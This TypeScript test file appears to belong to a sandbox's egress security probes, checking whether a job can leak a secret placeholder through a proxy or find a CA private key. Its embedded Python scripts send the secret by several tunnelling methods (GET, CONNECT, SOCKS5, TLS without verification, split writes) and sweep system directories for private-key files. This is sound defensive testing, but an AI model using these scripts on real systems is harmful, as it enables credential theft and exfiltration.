/**
 * Secrets at egress probes (#18 item 3). Each runs in a side workspace whose
 * job carries a secret for a host that does not exist, so the
 * job holds only a placeholder and the proxy terminates its TLS:
 *
 *  - the placeholder sent to another allowed host (a listener on the host's
 *    loopback, listed as 127.0.0.1:PORT) every way a job can: a plain GET
 *    through the proxy, raw bytes in a CONNECT tunnel and in a SOCKS5 one,
 *    TLS inside a CONNECT tunnel (the job trusting any certificate), and
 *    split across two writes. The listener keeps every byte it receives.
 *  - the workspace CA's keys: the job opens their host paths, walks the
 *    places a key could have been left (/run, /etc, /tmp, /workspace, homes,
 *    /var, /opt) and reports the digest of anything holding a PRIVATE KEY.
 */
import { createServer, type Socket } from 'node:net';
import type { EgressDecision } from '../network/egress-ledger.js';
import { EGRESS_HTTP_PORT, EGRESS_SOCKS_PORT } from '../network/egress-sandbox.js';
import { PLACEHOLDER_PREFIX } from '../network/egress-secrets.js';
import { linesStartingWith, notAttempted, type JobFacts, type Judgement, type NetworkSideOutcome, type ProbeHost, type Scenario } from './probe-types.js';

const DONE = 'probe-done';
const MAIN_ARGV = ['python3', '-c', `print('${DONE}')`];
const BASE = { requires: ['network' as const], requiresFeatures: ['network-allowlist' as const] };

/** Each attempt sends `X-Key: <placeholder>` to 127.0.0.1:PORT; one line per attempt. */
const PLACEHOLDER_SCRIPT = `import os, socket, ssl, sys
port = int(sys.argv[1]); ph = os.environ.get('HSPROBE_SECRET', '')
if not ph.startswith('${PLACEHOLDER_PREFIX}'):
    print('no placeholder in the environment'); print('${DONE}'); sys.exit(0)
req = ('GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nX-Key: %s\\r\\n\\r\\n' % ph).encode()
def proxy(): return socket.create_connection(('127.0.0.1', ${EGRESS_HTTP_PORT}), timeout=2)
def drain(s):
    try: return (s.recv(200).split(b'\\r\\n')[0].decode('latin1')) or 'closed'
    except OSError as e: return 'error ' + (e.strerror or type(e).__name__)
def attempt(name, fn):
    try: print('answer:', name, fn())
    except Exception as e: print('failed:', name, type(e).__name__, str(e)[:80])
def get():
    s = proxy(); s.sendall(('GET http://127.0.0.1:%d/ HTTP/1.1\\r\\nX-Key: %s\\r\\n\\r\\n' % (port, ph)).encode()); return drain(s)
def tunnel():
    s = proxy(); s.sendall(('CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n' % port).encode()); drain(s); s.sendall(req); return drain(s)
def split():
    s = proxy(); s.sendall(('CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n' % port).encode()); drain(s)
    s.sendall(req[:40]); s.sendall(req[40:]); return drain(s)
def socks():
    s = socket.create_connection(('127.0.0.1', ${EGRESS_SOCKS_PORT}), timeout=2)
    s.sendall(b'\\x05\\x01\\x00'); s.recv(2)
    s.sendall(b'\\x05\\x01\\x00\\x01' + bytes([127, 0, 0, 1]) + port.to_bytes(2, 'big')); s.recv(10); s.sendall(req); return drain(s)
def tls():
    s = proxy(); s.sendall(('CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n' % port).encode()); drain(s)
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname='127.0.0.1'); t.sendall(req); return drain(t)
for name, fn in [('get', get), ('tunnel', tunnel), ('split', split), ('socks', socks), ('tls', tls)]: attempt(name, fn)
print('${DONE}')`;

/** Opens every path given, then walks the places a key could be left; reports what holds a private key. */
const CA_KEY_SCRIPT = `import hashlib, os, sys
bundle = os.environ.get('SSL_CERT_FILE', '')
print('bundle:', 'present' if bundle and os.path.isfile(bundle) else 'absent')
seen = set()
def check(p):
    if p in seen: return
    seen.add(p)
    try:
        with open(p, 'rb') as f: data = f.read(1 << 20)
    except OSError: return
    if b'PRIVATE KEY' in data: print('key:', p, hashlib.sha256(data).hexdigest())
for p in sys.argv[1:]:
    try: open(p, 'rb').close(); print('opened:', p)
    except OSError as e: print('failed:', p, e.strerror)
    check(p)
for root in ['/run', '/etc', '/tmp', '/workspace', '/home', '/root', '/var', '/opt', '/srv', '/proc/self/cwd']:
    for d, _, files in os.walk(root):
        for n in files[:2000]: check(os.path.join(d, n))
print('${DONE}')`;

export interface SecretProbeFacts {
  side: NetworkSideOutcome | undefined;
  /** Bytes the probe's loopback listener received, as latin1 text. */
  received: string;
  value: string;
}

/** A loopback TCP listener that keeps (a bounded amount of) what it receives and answers nothing. */
async function openRecordingListener(): Promise<{ port: number; received: () => string; close: () => Promise<void> }> {
  let text = '';
  const sockets = new Set<Socket>();
  const server = createServer((s) => {
    sockets.add(s);
    s.on('error', () => undefined);
    s.on('data', (chunk: Buffer) => {
      if (text.length < 1 << 20) text += chunk.toString('latin1');
    });
    s.setTimeout(5000, () => s.destroy());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const port = (server.address() as { port: number }).port;
  return {
    port,
    received: () => text,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

/** The side job's outcome when it ran and reported (`probe-done`), or why the attempt is skipped. Shared by the secret probes. */
export function sideFirst(
  job: JobFacts,
  side: NetworkSideOutcome | undefined,
  withPlaceholder = false,
): Judgement | { side: Extract<NetworkSideOutcome, { output: string }> } {
  const unrun = notAttempted(job, DONE);
  if (unrun) return unrun;
  if (side === undefined) return { verdict: 'skipped', evidence: 'the attempt did not run' };
  // The code before secrets refused a run with a secret: nothing was attempted, which is not containment.
  if ('refused' in side) return { verdict: 'skipped', evidence: `the secret-carrying workspace was refused at ${side.at}: ${side.refused}` };
  const sideUnrun = notAttempted({ status: 'success', exitCode: side.exitCode, output: side.output }, DONE);
  if (sideUnrun) return sideUnrun;
  if (withPlaceholder && side.output.includes('no placeholder in the environment'))
    return { verdict: 'skipped', evidence: 'the job held no placeholder: the run carried no secret' };
  return { side };
}

const shown = (d: EgressDecision) => `${d.host}:${d.port}${d.reason ? ` (${d.reason})` : ''}`;

/** Escaped when the listener got the placeholder or the value; contained only when the proxy recorded blocking it. */
export function judgePlaceholder(job: JobFacts, facts: SecretProbeFacts): Judgement {
  // What the host's listener received is an escape whether or not the job lived to report (a blind splice left it waiting on answers).
  const received = facts?.received ?? '';
  const value = facts?.value ?? '';
  const lines = facts?.side !== undefined && 'output' in facts.side ? linesStartingWith(facts.side.output, 'answer:') : [];
  if (value !== '' && received.includes(value))
    return { verdict: 'escaped', evidence: "the secret's VALUE reached a host it is not for (the probe's loopback listener)", lines };
  if (received.includes(PLACEHOLDER_PREFIX))
    return { verdict: 'escaped', evidence: "the secret's placeholder reached a host it is not for (the probe's loopback listener)", lines };
  const first = sideFirst(job, facts?.side);
  if ('verdict' in first) return first;
  const { side } = first;
  if (side.output.includes('no placeholder in the environment'))
    return { verdict: 'skipped', evidence: 'the job held no placeholder: the run carried no secret' };
  const blocked = side.decisions.filter((d) => d.reason?.startsWith('placeholder of ') === true);
  if (blocked.length === 0) return { verdict: 'skipped', evidence: 'the proxy recorded no blocked placeholder: the attempts did not reach it' };
  return { verdict: 'contained', evidence: `the proxy blocked ${blocked.length} attempt(s): ${blocked.map(shown).join('; ')}` };
}

export const egressSecretPlaceholder: Scenario<SecretProbeFacts> = {
  ...BASE,
  id: 'egress-secret-placeholder',
  title: "a secret's placeholder sent to another host",
  attempts:
    "with a secret for a host that does not exist, send its placeholder to another allowed host (a listener on the host's loopback) by plain GET, a CONNECT tunnel, a SOCKS5 tunnel, TLS in a tunnel and split across writes: the listener must receive neither the placeholder nor the value. The code before secrets refused a run with a secret (skipped, never contained); a proxy that splices a secret-carrying job's tunnels blind, as it did before, reads escaped",
  async prepare(host: ProbeHost) {
    const listener = await openRecordingListener();
    host.defer(() => listener.close());
    const value = `hsprobe-value-${host.token()}`;
    const own = `secret-${host.token().slice(0, 12)}.invalid`;
    const side = await host.tryNetworkWorkspace([own, `127.0.0.1:${listener.port}`], ['python3', '-c', PLACEHOLDER_SCRIPT, String(listener.port)], {
      secrets: [{ name: 'HSPROBE_SECRET', value, host: own }],
    });
    // Give in-flight bytes a moment to land before the listener is read.
    await new Promise((r) => setTimeout(r, 200));
    return { argv: MAIN_ARGV, observe: async () => ({ side, received: listener.received(), value }) };
  },
  judge: judgePlaceholder,
};

/** Escaped when the job opened a key's host path or reported a file whose digest is a key's. */
export function judgeCaKey(job: JobFacts, facts: SecretProbeFacts): Judgement {
  const first = sideFirst(job, facts.side);
  if ('verdict' in first) return first;
  const { side } = first;
  const keys = side.caKeySha256 ?? [];
  if (keys.length === 0) return { verdict: 'skipped', evidence: 'the workspace had no CA keys on the host: secrets were not in force' };
  if (!side.output.includes('bundle: present')) return { verdict: 'skipped', evidence: 'the job had no CA bundle: the run carried no secret' };
  const opened = linesStartingWith(side.output, 'opened:');
  if (opened.length > 0) return { verdict: 'escaped', evidence: `the job opened a CA key's host path: ${opened.join('; ')}`, lines: opened };
  const found = linesStartingWith(side.output, 'key:');
  const leaked = found.filter((line) => keys.some((k) => line.endsWith(k)));
  if (leaked.length > 0) return { verdict: 'escaped', evidence: `the job read a CA key: ${leaked.join('; ')}`, lines: leaked };
  return {
    verdict: 'contained',
    evidence: `the key paths failed inside (${linesStartingWith(side.output, 'failed:').length} tried); ${found.length} other private key file(s) seen, none the CA's`,
  };
}

export const egressCaKey: Scenario<SecretProbeFacts> = {
  ...BASE,
  id: 'egress-ca-key',
  title: "the workspace CA's private key",
  attempts:
    "with a secret in force (the CA's certificate trusted inside), open the CA keys' host paths and walk /run, /etc, /tmp, /workspace, the homes, /var and /opt for any file holding a PRIVATE KEY: none may be the CA's or its leaf key. The code before secrets had no CA and refused a run with a secret (skipped); a bundle built from the key file, or the home bound inside, reads escaped",
  async prepare(host: ProbeHost) {
    const own = `secret-${host.token().slice(0, 12)}.invalid`;
    const side = await host.tryNetworkWorkspace([own], ['python3', '-c', CA_KEY_SCRIPT], {
      secrets: [{ name: 'HSPROBE_SECRET', value: `hsprobe-value-${host.token()}`, host: own }],
      caKeyPaths: true,
    });
    return { argv: MAIN_ARGV, observe: async () => ({ side, received: '', value: '' }) };
  },
  judge: judgeCaKey,
};
